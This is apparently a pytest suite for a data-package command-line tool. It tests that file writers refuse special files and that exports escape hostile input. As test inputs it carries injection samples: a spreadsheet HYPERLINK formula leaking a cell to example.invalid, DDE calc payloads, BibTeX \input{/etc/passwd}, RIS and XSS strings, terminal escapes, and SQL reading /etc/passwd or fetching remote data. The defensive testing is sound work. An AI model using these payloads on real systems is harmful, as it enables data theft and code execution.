"""Hostile input, round two (issue 23): every writer replaces only what is its own, never writes
into the package it reads, cleans up after a writer that was killed, and every output is escaped
for the program that reads it (spreadsheet, BibTeX, RIS, Datasette, Markdown, CI logs, the
terminal)."""

from __future__ import annotations

import json
import os
import re
import socket
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from package_rows import read_rows, write_rows
from reliability_helpers import load_descriptor, save_descriptor

import msc_exos_pof
from msc_exos_pof.cli import main
from msc_exos_pof.errors import ExportTargetError, OutputRefusedError
from msc_exos_pof.io.atomic import write_text_atomic
from msc_exos_pof.release.hashes import rehash

# --- special files: what a writer may replace --------------------------------------------------


def _fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


def _socket(path: Path) -> Path:
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.close()  # the socket file stays
    return path


def _device(path: Path) -> Path:
    if os.geteuid() != 0:
        pytest.skip("creating a character device (mknod) needs root")
    os.mknod(path, stat.S_IFCHR | 0o644, os.makedev(1, 3))  # a /dev/null of our own
    return path


def _link(path: Path) -> Path:
    target = path.with_name(path.name + ".target")
    target.write_text("the user's file\n", encoding="utf-8")
    path.symlink_to(target)
    return path


SPECIAL: dict[str, Callable[[Path], Path]] = {
    "fifo": _fifo,
    "socket": _socket,
    "character device": _device,
    "symbolic link": _link,
}

#: Every command that writes a file, with the place of the output in its arguments.
WRITERS = {
    "validate -o": ["validate", "{package}", "-o", "{out}", "--force"],
    "dictionary -o": ["dictionary", "{package}", "-o", "{out}", "--force"],
    "checks -o": ["checks", "--format", "markdown", "-o", "{out}", "--force"],
    "prisma --svg": ["prisma", "{package}", "--svg", "{out}", "--force"],
    "prisma --csv": ["prisma", "{package}", "--csv", "{out}", "--force"],
    "export sqlite": ["export", "--to", "sqlite", "{out}", "{package}", "--force"],
    "export parquet": ["export", "--to", "parquet", "{out}", "{package}", "--force"],
    "export bibtex": ["export", "--to", "bibtex", "{out}", "{package}", "--force"],
}


@pytest.mark.parametrize("kind", list(SPECIAL))
@pytest.mark.parametrize("writer", list(WRITERS))
def test_no_writer_replaces_a_special_file_even_with_force(
    package_copy: Path, tmp_path: Path, writer: str, kind: str
) -> None:
    out = SPECIAL[kind](tmp_path / "target")
    before = os.lstat(out)
    arguments = [a.format(package=package_copy, out=out) for a in WRITERS[writer]]
    result = CliRunner().invoke(main, arguments)
    assert result.exit_code == 2, result.output
    assert "not a regular file" in result.output or "not a folder" in result.output
    after = os.lstat(out)
    assert (stat.S_IFMT(after.st_mode), after.st_ino) == (
        stat.S_IFMT(before.st_mode),
        before.st_ino,
    )


@pytest.mark.parametrize("kind", ["fifo", "socket", "symbolic link"])
def test_the_library_writers_refuse_special_files_too(tmp_path: Path, kind: str) -> None:
    out = SPECIAL[kind](tmp_path / "target")
    with pytest.raises(OutputRefusedError):
        write_text_atomic(out, "text")
    with pytest.raises(ExportTargetError):
        msc_exos_pof.export("sqlite", out, overwrite=True)
    with pytest.raises(OutputRefusedError):
        msc_exos_pof.prisma.write_prisma(svg=out)
    assert not stat.S_ISREG(os.lstat(out).st_mode)


def test_synth_replaces_only_a_folder_it_wrote(tmp_path: Path) -> None:
    out = tmp_path / "synthetic"
    assert CliRunner().invoke(main, ["synth", "-n", "5", str(out)]).exit_code == 0
    again = CliRunner().invoke(main, ["synth", "-n", "6", "--force", str(out)])
    assert again.exit_code == 0, again.output  # its own earlier output: replaced
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.tex").write_text("years of work", encoding="utf-8")
    refused = CliRunner().invoke(main, ["synth", "-n", "5", "--force", str(mine)])
    assert refused.exit_code == 2
    assert "not replaced even with --force" in refused.output
    assert (mine / "thesis.tex").read_text(encoding="utf-8") == "years of work"
    link = tmp_path / "link"
    link.symlink_to(out)
    assert CliRunner().invoke(main, ["synth", "-n", "5", "--force", str(link)]).exit_code == 2
    assert link.is_symlink()


# --- no writer writes into the package it reads -------------------------------------------------


def test_dictionary_and_checks_never_write_into_the_package(
    package_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    descriptor = package_copy / "datapackage.json"
    before = descriptor.read_bytes()
    runner = CliRunner()
    result = runner.invoke(
        main, ["dictionary", str(package_copy), "-o", str(descriptor), "--force"]
    )
    assert result.exit_code == 2 and "inside the package" in result.output
    # checks reads no package: the one of the current folder is protected all the same
    repository = tmp_path / "repo"
    repository.mkdir()
    (repository / "datapackage").symlink_to(package_copy)
    monkeypatch.chdir(repository)
    target = "datapackage/datapackage.json"
    result = runner.invoke(main, ["checks", "--format", "markdown", "-o", target, "--force"])
    assert result.exit_code == 2 and "inside the package" in result.output
    assert descriptor.read_bytes() == before


def test_no_writer_writes_into_the_shipped_package(tmp_path: Path) -> None:
    from msc_exos_pof.io.locate import shipped_package_dir

    inside = shipped_package_dir() / "stray.md"
    for arguments in (
        ["dictionary", "-o", str(inside)],
        ["checks", "--format", "markdown", "-o", str(inside)],
        ["validate", str(tmp_path / "missing"), "-o", str(inside)],
        ["synth", "-n", "5", str(shipped_package_dir() / "synthetic")],
    ):
        result = CliRunner().invoke(main, arguments)
        assert result.exit_code == 2, (arguments, result.output)
    assert not inside.exists() and not (shipped_package_dir() / "synthetic").exists()


# --- OUT "-": standard output where it means something, refused elsewhere -----------------------


def test_out_dash_prints_a_reference_list_and_is_refused_for_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("bibtexparser")
    monkeypatch.chdir(tmp_path)
    printed = CliRunner().invoke(main, ["export", "--to", "bibtex", "-"])
    assert printed.exit_code == 0, printed.output
    assert printed.stdout.count("@article") + printed.stdout.count("@misc") == 75
    for arguments in (
        *(["export", "--to", to, "-"] for to in ("sqlite", "parquet", "xlsx", "csv")),
        ["synth", "-n", "5", "-"],
        ["figures", "-"],
    ):
        refused = CliRunner().invoke(main, arguments)
        assert refused.exit_code == 2, refused.output
        assert "standard output" in refused.output or "'-'" in refused.output
    assert not (tmp_path / "-").exists()


# --- errors name the target, and killed writers leave nothing for good --------------------------


def test_a_write_error_names_the_target_not_the_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import tempfile

    def read_only(*args: object, **kwargs: object) -> tuple[int, str]:
        folder = Path(str(kwargs.get("dir")))
        raise PermissionError(13, "Permission denied", str(folder / ".report.txt.tmp-1-abc"))

    monkeypatch.setattr(tempfile, "mkstemp", read_only)
    result = CliRunner().invoke(
        main, ["checks", "--format", "markdown", "-o", str(tmp_path / "report.md")]
    )
    assert result.exit_code == 2
    assert f"cannot write {tmp_path / 'report.md'}:" in result.output
    assert ".tmp-" not in result.output


@pytest.fixture
def read_only_folder(tmp_path: Path) -> Iterator[Path]:
    """A folder nothing can be written into, even as root (``chattr +i``)."""
    import shutil

    folder = tmp_path / "read-only"
    folder.mkdir()
    chattr = shutil.which("chattr")
    if chattr is None or subprocess.run([chattr, "+i", str(folder)]).returncode != 0:
        pytest.skip("needs chattr +i (root, on a file system that supports it)")
    try:
        yield folder
    finally:
        subprocess.run([chattr, "-i", str(folder)], check=True)


def test_writes_into_a_read_only_folder_name_the_output(
    read_only_folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(read_only_folder.parent)
    for arguments, out in (
        (["validate", "-o", "read-only/report.txt"], "read-only/report.txt"),
        (["export", "--to", "sqlite", "read-only/review.sqlite"], "read-only/review.sqlite"),
        (["export", "--to", "parquet", "read-only/parquet"], "read-only/parquet"),
    ):
        result = CliRunner().invoke(main, arguments)
        assert result.exit_code == 2, result.output
        assert f"cannot write {out}:" in result.output or f"{read_only_folder.parent / out}:" in (
            result.output
        ), result.output
        assert ".tmp-" not in result.output and "export-" not in result.output


def _dead_process_id() -> int:
    """The id of a process that has just ended (not reused within the test's few seconds)."""
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_a_later_write_removes_what_a_killed_writer_left(tmp_path: Path) -> None:
    dead, alive = _dead_process_id(), os.getppid()
    report = tmp_path / "report.txt"
    stale = tmp_path / f".report.txt.tmp-{dead}-x1y2"
    stale.write_text("half", encoding="utf-8")
    running = tmp_path / f".report.txt.tmp-{alive}-x1y2"
    running.write_text("another writer's", encoding="utf-8")
    user = tmp_path / ".report.txt.notes"
    user.write_text("mine", encoding="utf-8")
    write_text_atomic(report, "done\n")
    assert not stale.exists()
    assert running.exists() and user.exists()  # a live writer's, and a file of the user's


def test_a_later_export_removes_the_staging_folder_and_lock_of_a_killed_one(
    tmp_path: Path,
) -> None:
    out = tmp_path / "review.sqlite"
    dead = _dead_process_id()
    staging = tmp_path / f".review.sqlite.export-{dead}-abcd"
    (staging / "review.sqlite").mkdir(parents=True)
    lock = tmp_path / ".review.sqlite.export-lock"
    lock.write_text(f"{dead}\n", encoding="ascii")  # SIGKILL left it: no process holds it
    msc_exos_pof.export("sqlite", out)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["review.sqlite"]


def test_the_lock_names_the_export_that_holds_it(tmp_path: Path) -> None:
    import fcntl

    from msc_exos_pof.exports.target import lock_file, locked

    out = tmp_path / "review.sqlite"
    with locked(out):
        assert lock_file(out).read_text(encoding="ascii").strip() == str(os.getpid())
        with open(lock_file(out)) as handle, pytest.raises(OSError):
            fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
    assert not lock_file(out).exists()


# --- spreadsheet: text is text everywhere -------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'


def test_no_cell_of_the_workbook_is_a_formula_whatever_the_names(
    package_copy: Path, tmp_path: Path
) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    descriptor = load_descriptor(package_copy)
    resource = next(r for r in descriptor["resources"] if r["name"] == "animal_models")
    field = resource["schema"]["fields"][-1]
    old = field["name"]
    field["name"] = FORMULA
    field["description"] = "+cmd|' /C calc'!A0"
    resource["title"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    descriptor["title"] = "=1+1"
    save_descriptor(package_copy, descriptor, refresh=False)
    rows = read_rows(package_copy, "animal_models")
    write_rows(package_copy, "animal_models", [{**r, FORMULA: r.pop(old)} for r in rows])
    rehash(package_copy)
    out = msc_exos_pof.export("xlsx", tmp_path / "review.xlsx", package_copy)
    workbook = openpyxl.load_workbook(out)
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any(c.value == FORMULA and c.data_type == "s" for c in cells)
    for sheet in workbook:
        for validation in sheet.data_validations.dataValidation:
            assert validation.formula1.startswith('"') and validation.formula1.endswith('"')


# --- bibliographies: a value cannot open a field or a record ------------------------------------


def _hostile_reference(folder: Path, title: str, journal: str = "J") -> None:
    rows = read_rows(folder, "references")
    rows[0]["title"], rows[0]["journal"] = title, journal
    write_rows(folder, "references", rows)
    rehash(folder)


def test_a_brace_in_a_title_opens_no_bibtex_field(package_copy: Path, tmp_path: Path) -> None:
    bibtexparser = pytest.importorskip("bibtexparser")
    title = "Exosomes}, note = {injected}, x = {\\input{/etc/passwd}"
    _hostile_reference(package_copy, title)
    text = msc_exos_pof.export("bibtex", tmp_path / "refs.bib", package_copy).read_text("utf-8")
    library = bibtexparser.parse_string(text)
    assert len(library.entries) == 75 and not library.failed_blocks
    first = library.entries[0]
    assert {f.key for f in first.fields} == {"author", "title", "journal", "year", "volume",
                                               "number", "pages"}  # fmt: skip
    assert "\\input" not in text


def test_a_line_break_in_a_title_adds_no_ris_record(package_copy: Path, tmp_path: Path) -> None:
    rispy = pytest.importorskip("rispy")
    _hostile_reference(package_copy, "Exosomes\nER  - \n\nTY  - JOUR\nTI  - injected", "J\u2028X")
    text = msc_exos_pof.export("ris", tmp_path / "refs.ris", package_copy).read_text("utf-8")
    records = rispy.loads(text)
    assert len(records) == 75
    assert records[0]["title"].split() == "Exosomes ER - TY - JOUR TI - injected".split()
    assert "\n" not in records[0]["journal_name"]


# --- Datasette and generated Markdown: no live link, tag or attribute from data ------------------


def test_datasette_links_only_http_and_relative_urls(package_copy: Path, tmp_path: Path) -> None:
    from msc_exos_pof.exports.to_datasette import datasette_metadata

    descriptor = load_descriptor(package_copy)
    descriptor["licenses"] = [{"name": "CC-BY-4.0", "path": "java\tscript:alert(1)"}]
    descriptor["sources"] = [{"title": "x", "path": "data:text/html,<script>alert(1)</script>"}]
    save_descriptor(package_copy, descriptor, refresh=False)
    metadata = datasette_metadata(package_copy)
    assert metadata["license_url"] == metadata["source_url"] == ""
    descriptor["sources"] = [{"title": "x", "path": "https://doi.org/10.29063/ajrh2026/v30i7.11"}]
    save_descriptor(package_copy, descriptor, refresh=False)
    assert datasette_metadata(package_copy)["source_url"].startswith("https://doi.org/")


HOSTILE_TEXT = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "<javascript:alert(1)>",
    "# not a heading",
    "- not a list",
    "1. not a list",
    "text {: onclick=alert(1) }",
    "a | b",
    "`code` *em* _em_",
]


def _rendered(markdown_text: str) -> str:
    markdown = pytest.importorskip("markdown")
    return markdown.markdown(markdown_text, extensions=["tables", "attr_list", "toc"])


def _tags(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """Every start tag of ``html`` with its attributes, as a browser would read them."""
    from html.parser import HTMLParser

    found: list[tuple[str, list[tuple[str, str | None]]]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, attrs))

    Collect().feed(html)
    return found


def _live(html: str, allowed: set[str]) -> list[str]:
    """What a browser would run or follow, or markup the data made: a tag not in ``allowed``,
    an event handler, a link or an attribute out of data."""
    bad = []
    for tag, attrs in _tags(html):
        if tag not in allowed:
            bad.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript"):
                bad.append(f"{tag} {name}")
    return bad


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_markdown_escaping_shows_data_as_written(text: str) -> None:
    import html as html_module

    from msc_exos_pof.docgen.markdown import cell, escape_markdown

    rendered = _rendered(escape_markdown(text))
    assert _live(rendered, {"p"}) == []
    assert html_module.unescape(re.sub(r"<[^>]+>", "", rendered)).strip() == text
    table = _rendered(f"| a |\n|---|\n| {cell(text)} |\n")
    assert _live(table, {"table", "thead", "tbody", "tr", "th", "td"}) == []
    assert table.count("<td>") == 1


def test_the_data_dictionary_escapes_titles_descriptions_and_names(package_copy: Path) -> None:
    from msc_exos_pof.docgen.dictionary import data_dictionary

    descriptor = load_descriptor(package_copy)
    descriptor["title"] = HOSTILE_TEXT[0]
    for resource, text in zip(descriptor["resources"], HOSTILE_TEXT, strict=False):
        resource["title"] = text
        resource["description"] = text
        resource["schema"]["fields"][0]["description"] = text
    save_descriptor(package_copy, descriptor, refresh=False)
    page = {"h1", "h2", "h3", "p", "table", "thead", "tbody", "tr", "th", "td", "code", "a"}
    rendered = _rendered(data_dictionary(package_copy))
    assert _live(rendered, page) == []
    assert [tag for tag, _ in _tags(rendered)].count("h1") == 1
    links = [dict(attrs).get("href") or "" for tag, attrs in _tags(rendered) if tag == "a"]
    assert all(link.startswith("#codes-") for link in links)


def test_the_errata_page_escapes_every_value(package_copy: Path) -> None:
    from msc_exos_pof.docgen.errata import errata_markdown

    rows = read_rows(package_copy, "errata")
    rows[0]["note"] = HOSTILE_TEXT[0]
    rows[0]["evidence"] = HOSTILE_TEXT[2]
    rows[0]["erratum_id"] = "studies/<img src=x onerror=alert(1)>/design"
    write_rows(package_copy, "errata", rows)
    page = {"h1", "h2", "h3", "p", "table", "thead", "tbody", "tr", "th", "td", "code", "a"}
    page |= {"h4", "ul", "li", "strong", "em", "blockquote"}
    rendered = _rendered(errata_markdown(package_copy))
    assert _live(rendered, page) == []
    links = [dict(attrs).get("href") or "" for tag, attrs in _tags(rendered) if tag == "a"]
    assert all(link.startswith("#") for link in links)


# --- CI logs and the terminal -------------------------------------------------------------------

BIDI = "\u202e"


def _bidi_cell(folder: Path) -> None:
    """A cell and a column name with a bidirectional override and a terminal escape (names reach
    messages as written, cells through ``repr``)."""
    rows = read_rows(folder, "studies")
    rows[0]["design"] = f"in_vivo{BIDI}\x1b[31m"
    write_rows(folder, "studies", rows)
    file = folder / "data" / "animal_models.csv"
    header, rest = file.read_text(encoding="utf-8").split("\n", 1)
    file.write_text(header.replace("note", f"note{BIDI}\x1b[2J") + "\n" + rest, "utf-8")
    rehash(folder)


def test_no_bidirectional_override_or_escape_reaches_a_report(package_copy: Path) -> None:
    from msc_exos_pof.gate import render

    _bidi_cell(package_copy)
    result = CliRunner().invoke(main, ["validate", str(package_copy), "--format", "github"])
    assert result.exit_code == 1
    outputs = {"github (CLI)": result.stdout}
    report = msc_exos_pof.validate(package_copy)
    outputs |= {fmt: render.render(report, fmt) for fmt in render.FORMATS}
    for fmt, text in outputs.items():
        assert BIDI not in text and "\x1b" not in text, fmt
        assert "202e" in text, fmt  # shown, escaped


def test_query_show_and_rehash_never_print_terminal_escapes(package_copy: Path) -> None:
    pytest.importorskip("duckdb")
    rows = read_rows(package_copy, "animal_models")
    rows[0]["note"] = f"\x1b]0;owned\x07\x1b[2J{BIDI}"
    write_rows(package_copy, "animal_models", rows)
    outputs = []
    for arguments in (
        ["rehash", str(package_copy), "--check"],
        ["show", "animal_models", str(package_copy)],
        ["query", "select note from animal_models", str(package_copy)],
        ["query", "select note from animal_models", str(package_copy), "--format", "json"],
        ["query", 'select "\x1b[2J" from animal_models', str(package_copy)],
    ):
        result = CliRunner().invoke(main, arguments)
        outputs.append(result.output)
    descriptor = load_descriptor(package_copy)
    descriptor["resources"][0]["name"] = "x\x1b[2J"
    save_descriptor(package_copy, descriptor, refresh=False)
    outputs.append(CliRunner().invoke(main, ["rehash", str(package_copy), "--check"]).output)
    outputs.append(CliRunner().invoke(main, ["show", "x\x1b[2J", str(package_copy)]).output)
    joined = "".join(outputs)
    assert "\x1b" not in joined and "\x07" not in joined and BIDI not in joined
    assert "\\x1b" in joined


# --- DuckDB: SQL reaches the package's tables, nothing else -------------------------------------

OUTSIDE = [
    "select * from read_csv('/etc/passwd')",
    "select * from read_text('/etc/hostname')",
    "copy studies to '{tmp}/leak.csv'",
    "attach '{tmp}/other.duckdb' as other",
    "install httpfs",
    "load httpfs",
    "select * from 'https://example.invalid/data.csv'",
    "export database '{tmp}/dump'",
    "set enable_external_access = true",
]


@pytest.mark.parametrize("sql", OUTSIDE)
def test_query_refuses_sql_that_reaches_outside_the_package(tmp_path: Path, sql: str) -> None:
    pytest.importorskip("duckdb")
    result = CliRunner().invoke(main, ["query", sql.format(tmp=tmp_path)])
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output and "unexpected" not in result.output
    assert list(tmp_path.iterdir()) == []


def test_connect_is_sandboxed_unless_asked(tmp_path: Path) -> None:
    duckdb = pytest.importorskip("duckdb")
    file = tmp_path / "mine.csv"
    file.write_text("a\n1\n", encoding="utf-8")
    connection = msc_exos_pof.connect()
    assert connection.execute("select count(*) from studies").fetchall() == [(17,)]
    with pytest.raises(duckdb.PermissionException):
        connection.execute(f"select * from read_csv('{file}')")
    trusted = msc_exos_pof.connect(external_access=True)
    assert trusted.execute(f"select * from read_csv('{file}')").fetchall() == [(1,)]
    allowed = CliRunner().invoke(
        main, ["query", f"select * from read_csv('{file}')", "--external-access"]
    )
    assert allowed.exit_code == 0 and "(1 row)" in allowed.output


# --- the CSV export's documented choice -----------------------------------------------------


def test_the_csv_export_documents_that_cells_are_copied_as_written() -> None:
    page = (Path(__file__).resolve().parents[1] / "docs" / "exports.md").read_text("utf-8")
    section = page.split("### CSV copy", 1)[1].split("\n## ", 1)[0]
    assert all(sign in section for sign in ("`=`", "`+`", "`-`", "`@`"))


def test_json_output_of_query_escapes_what_a_terminal_would_act_on() -> None:
    import pandas as pd

    from msc_exos_pof.exports.query import rows_as_text

    frame = pd.DataFrame({"a": [f"x{BIDI}\x9b2J\u2028"]})
    text = rows_as_text(frame, "json")
    assert json.loads(text) == [{"a": f"x{BIDI}\x9b2J\u2028"}]
    assert BIDI not in text and "\x9b" not in text


def test_figures_replace_only_regular_files(tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    from msc_exos_pof.figures import FIGURES

    out = tmp_path / "figures"
    out.mkdir()
    fifo = _fifo(out / f"{next(iter(FIGURES))}.svg")
    result = CliRunner().invoke(main, ["figures", str(out), "--force"])
    assert result.exit_code == 2, result.output
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert [p.name for p in out.iterdir()] == [fifo.name]  # nothing written before the refusal
